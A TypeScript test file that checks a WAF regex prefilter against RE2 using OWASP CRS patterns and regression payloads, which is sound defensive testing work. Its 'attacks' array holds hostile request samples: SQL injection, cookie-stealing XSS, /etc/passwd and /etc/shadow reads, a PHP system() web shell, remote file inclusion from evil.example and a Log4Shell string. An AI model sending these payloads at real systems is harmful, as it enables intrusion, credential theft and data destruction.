/**
 * The prefilter's safety property, checked against RE2 itself: whenever RE2 (flags `sm`, the pattern passed
 * through withPcreSpaces as the engine does) matches a value, the prefilter lists that pattern as a candidate.
 * A violation would be a missed attack, so the corpus is built to hit the patterns: CRS's regression-test
 * requests (decoded and transformed), strings generated from each pattern's own syntax tree, the required
 * literals embedded in noise, and characters beyond latin1 that fold onto ASCII under `(?i)`.
 */
import RE2 from 're2';
import { withPcreSpaces } from '../../src/operators/regex';
import { patternRequirement, RegexPrefilter, worthPrefiltering, type Candidates } from '../../src/prefilter/regex-prefilter';
import { parseRegex, type RegexNode } from '../../src/prefilter/regex-syntax';
import { atomsOf, type Requirement } from '../../src/prefilter/requirements';
import { compilesUnderRe2 } from '../../src/regex/re2-verdicts';
import { transform } from '../../src/transformations';
import { runTransaction, type TestRequest } from '../engine/helpers';
import { crsTestValues, crsWaf, rxPatterns, seededRandom, urlDecode } from './corpus';
import { mutateCase, pick, randomText, sample, wideFolds } from './generators';

interface Analysed {
  pattern: string;
  source: string;
  re: RE2;
  requirement: Exclude<Requirement, true>;
  worth: boolean;
  ast: RegexNode;
}

function variants(v: string): string[] {
  return [v, v.toLowerCase(), v.toUpperCase(), v.replace(/\s+/g, ' '), v.replace(/\s+/g, '')];
}

function analyse(patterns: string[]): { analysed: Analysed[]; unanalysable: number; noRequirement: number } {
  const analysed: Analysed[] = [];
  let unanalysable = 0;
  let noRequirement = 0;
  for (const pattern of patterns) {
    const source = withPcreSpaces(pattern);
    if (!compilesUnderRe2(source)) continue;
    const requirement = patternRequirement(source);
    if (requirement === undefined) {
      try {
        parseRegex(source);
        noRequirement++;
      } catch {
        unanalysable++;
      }
      continue;
    }
    analysed.push({ pattern, source, re: new RE2(source, 'sm'), requirement, worth: worthPrefiltering(requirement), ast: parseRegex(source) });
  }
  return { analysed, unanalysable, noRequirement };
}

function listed(c: Candidates, index: number): boolean {
  return c === null || c.includes(index);
}

describe('RegexPrefilter against RE2 over CRS @rx patterns', () => {
  const waf = crsWaf();
  const patterns = rxPatterns(waf);
  const { analysed, unanalysable, noRequirement } = analyse(patterns);
  const worthList = analysed.filter((a) => a.worth);
  const worthIndex = new Map(worthList.map((a, i) => [a, i]));
  const worthPrefilter = new RegexPrefilter(worthList.map((a) => a.requirement));
  const allPrefilter = new RegexPrefilter(analysed.map((a) => a.requirement));

  test('CRS gives many analysable patterns, and the engine prefilters exactly the worthwhile ones', () => {
    expect(patterns.length).toBeGreaterThan(150);
    expect(analysed.length).toBeGreaterThan(100);
    expect(worthList.length).toBeGreaterThan(50);
    const attached = new Set<string>();
    const visit = (rule: NonNullable<ReturnType<typeof waf.rule>>): void => {
      if (rule.prefilter !== undefined) attached.add(rule.operator.patternConstant!);
      if (rule.chained) visit(rule.chained);
    };
    for (let p = 1; p <= 5; p++) for (const r of waf.rulesForPhase(p)) visit(r);
    expect([...attached].sort()).toEqual(worthList.map((a) => a.pattern).sort());
    console.log(
      `prefilter: ${patterns.length} constant @rx patterns, ${analysed.length} with a requirement ` +
        `(${worthList.length} worth prefiltering), ${noRequirement} requiring nothing, ${unanalysable} unsupported syntax; ` +
        `${allPrefilter.atomCount} atoms`,
    );
  });

  function corpus(): string[] {
    const rnd = seededRandom(0x5eed);
    const values = new Set<string>();
    for (const v of crsTestValues()) {
      for (const d of new Set([v, urlDecode(v, false), urlDecode(v, true), urlDecode(urlDecode(v, true), true)])) {
        for (const x of variants(d)) values.add(x);
      }
    }
    for (const a of analysed) {
      // Strings from the pattern's own syntax tree, in noise, in mixed case, and with wide case folds.
      for (let i = 0; i < 12; i++) {
        const s = sample(a.ast, rnd);
        const embedded = randomText(rnd, 6) + s + randomText(rnd, 6);
        values.add(s);
        values.add(embedded);
        values.add(mutateCase(embedded, rnd));
        if (i < 3) values.add(wideFolds(s));
      }
      // Each required literal alone and in noise.
      for (const atom of atomsOf(a.requirement)) {
        values.add(randomText(rnd, 8) + mutateCase(atom, rnd) + randomText(rnd, 8));
        values.add(wideFolds(atom));
      }
    }
    for (let i = 0; i < 3000; i++) values.add(randomText(rnd, 40));
    return [...values];
  }

  test('every RE2 match is a prefilter candidate', () => {
    const values = corpus();
    expect(values.length).toBeGreaterThan(10000);
    let pairs = 0;
    let matches = 0;
    let rejectedByWorth = 0;
    let rejectedByAll = 0;
    const violations: string[] = [];
    for (const value of values) {
      const cWorth = worthPrefilter.candidates(value);
      const cAll = allPrefilter.candidates(value);
      if (/[^\x00-\xff]/.test(value)) {
        expect(cWorth).toBeNull();
        expect(cAll).toBeNull();
      }
      analysed.forEach((a, i) => {
        pairs++;
        const wi = worthIndex.get(a);
        const okAll = listed(cAll, i);
        const okWorth = wi === undefined || listed(cWorth, wi);
        if (!okAll) rejectedByAll++;
        if (!okWorth) rejectedByWorth++;
        if (!a.re.test(value)) return;
        matches++;
        if ((!okAll || !okWorth) && violations.length < 20) {
          violations.push(`${JSON.stringify(a.source)} matches ${JSON.stringify(value.slice(0, 300))} (all:${okAll} worth:${okWorth})`);
        }
      });
    }
    console.log(
      `prefilter differential: ${values.length} values x ${analysed.length} patterns = ${pairs} pairs; ${matches} RE2 matches; ` +
        `pairs skipped by the prefilter: ${rejectedByAll} (all patterns), ${rejectedByWorth} (worthwhile ones)`,
    );
    expect(violations).toEqual([]);
    // The corpus must actually exercise both sides of the property.
    expect(matches).toBeGreaterThan(20000);
    expect(rejectedByAll).toBeGreaterThan(pairs / 2);
  });
});

/** Transformation chains CRS puts in front of its `@rx` operators (the values RE2 really sees). */
const CRS_CHAINS: string[][] = [
  ['urlDecodeUni'],
  ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode', 'jsDecode', 'cssDecode', 'removeNulls'],
  ['urlDecodeUni', 'cmdLine'],
  ['urlDecodeUni', 'lowercase', 'removeWhitespace'],
  ['urlDecodeUni', 'replaceComments'],
  ['urlDecodeUni', 'normalizePath'],
  ['urlDecodeUni', 'normalizePathWin'],
  ['escapeSeqDecode', 'urlDecodeUni'],
  ['urlDecodeUni', 'htmlEntityDecode', 'compressWhitespace', 'lowercase'],
  ['base64Decode'],
];

describe('RegexPrefilter against RE2 on transformed CRS values and mutated pattern samples', () => {
  const waf = crsWaf();
  const { analysed } = analyse(rxPatterns(waf));
  const prefilter = new RegexPrefilter(analysed.map((a) => a.requirement));

  function check(value: string, indices: Iterable<number>, stats: { pairs: number; matches: number; violations: string[] }): void {
    const c = prefilter.candidates(value);
    for (const i of indices) {
      stats.pairs++;
      const a = analysed[i]!;
      if (!a.re.test(value)) continue;
      stats.matches++;
      if (!listed(c, i) && stats.violations.length < 20) stats.violations.push(`${JSON.stringify(a.source)} matches ${JSON.stringify(value.slice(0, 300))}`);
    }
  }

  test('CRS regression values through CRS transformation chains (sampled)', () => {
    const rnd = seededRandom(0xc4a1);
    const values = new Set<string>();
    for (const v of crsTestValues()) {
      for (let k = 0; k < 4; k++) values.add(pick(rnd, CRS_CHAINS).reduce((x, t) => transform(t, x), v));
    }
    const all = analysed.map((_, i) => i);
    const stats = { pairs: 0, matches: 0, violations: [] as string[] };
    for (const v of values) check(v, all, stats);
    console.log(`prefilter differential (transformed CRS values): ${values.size} values, ${stats.pairs} pairs, ${stats.matches} RE2 matches`);
    expect(stats.violations).toEqual([]);
    expect(values.size).toBeGreaterThan(3000);
    expect(stats.matches).toBeGreaterThan(10000);
  });

  test("each pattern's own samples, mutated one character at a time", () => {
    const rnd = seededRandom(0xbeef);
    const stats = { pairs: 0, matches: 0, violations: [] as string[] };
    analysed.forEach((a, i) => {
      for (let k = 0; k < 120; k++) {
        const base = sample(a.ast, rnd, 200);
        const values = new Set([base, mutateCase(base, rnd), wideFolds(base)]);
        // Near the edge of the language: one character dropped, doubled or replaced.
        for (let m = 0; m < 4 && base.length > 0; m++) {
          const at = Math.floor(rnd() * base.length);
          const r = rnd();
          const ch = String.fromCharCode(Math.floor(rnd() * 256));
          values.add(r < 0.4 ? base.slice(0, at) + base.slice(at + 1) : r < 0.7 ? base.slice(0, at) + base[at]! + base.slice(at) : base.slice(0, at) + ch + base.slice(at + 1));
        }
        for (const v of values) check(v, [i], stats);
      }
    });
    console.log(`prefilter differential (own samples): ${stats.pairs} pairs, ${stats.matches} RE2 matches`);
    expect(stats.violations).toEqual([]);
    expect(stats.matches).toBeGreaterThan(stats.pairs / 3);
  });
});

describe('the engine with and without the prefilter', () => {
  const withPrefilter = crsWaf();
  const without = crsWaf({ regexPrefilter: false });

  const attacks: TestRequest[] = [
    { uri: "/?id=1'%20union%20select%20password%20from%20users--", headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/?file=../../../../etc/passwd', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/?cmd=;cat%20/etc/shadow', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/?x=%3C%3Fphp%20system($_GET[c]);%20%3F%3E', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/?u=http://evil.example/shell.txt?', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0']] },
    { uri: '/', headers: [['Host', 'example.com'], ['User-Agent', 'sqlmap/1.5.2#stable (http://sqlmap.org)']] },
    {
      method: 'POST',
      uri: '/login',
      headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'application/x-www-form-urlencoded']],
      body: 'user=admin%27%20OR%201%3D1--&pass=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
    },
    {
      method: 'POST',
      uri: '/api',
      headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'application/json']],
      body: '{"q":"1; DROP TABLE users","t":"<img src=x onerror=alert(1)>","k":"\u212aelvin SELECT"}',
    },
    { uri: '/index.html?page=2&sort=name', headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'text/html']] },
  ];

  test('CRS regression payloads give the same matches, data and verdicts (sampled)', () => {
    const all = crsTestValues().filter((v) => v.length <= 2000 && !/[\r\n]/.test(v));
    const step = Math.max(1, Math.floor(all.length / 400));
    const payloads = all.filter((_, i) => i % step === 0);
    expect(payloads.length).toBeGreaterThan(300);
    const outcome = (waf: typeof without, payload: string, i: number): string => {
      const { tx, interruption } = runTransaction(
        waf,
        {
          method: 'POST',
          uri: payload.startsWith('/') ? payload : `/?q=${payload}`,
          headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0'], ['Referer', payload], ['Content-Type', 'application/x-www-form-urlencoded']],
          body: `a=${payload}`,
        },
        { id: `c${i}` },
      );
      return JSON.stringify({ it: interruption?.ruleId, rules: tx.matchedRules.map((r) => [r.id, r.data, r.matchedVarName]) });
    };
    let blocked = 0;
    payloads.forEach((p, i) => {
      const a = outcome(withPrefilter, p, i);
      expect(a).toBe(outcome(without, p, i));
      if (a.includes('949110')) blocked++;
    });
    expect(blocked).toBeGreaterThan(payloads.length / 4);
  });

  test.each(attacks.map((req, i) => [i, req] as const))('request %i gives the same matched rules', (i, req) => {
    const a = runTransaction(withPrefilter, req, { id: `p${i}` });
    const b = runTransaction(without, req, { id: `p${i}` });
    const ids = (r: typeof a): number[] => r.tx.matchedRules.map((m) => m.id);
    expect(ids(a)).toEqual(ids(b));
    expect(a.interruption?.ruleId).toEqual(b.interruption?.ruleId);
    if (i < attacks.length - 1) expect(ids(a).length).toBeGreaterThan(0);
  });
});
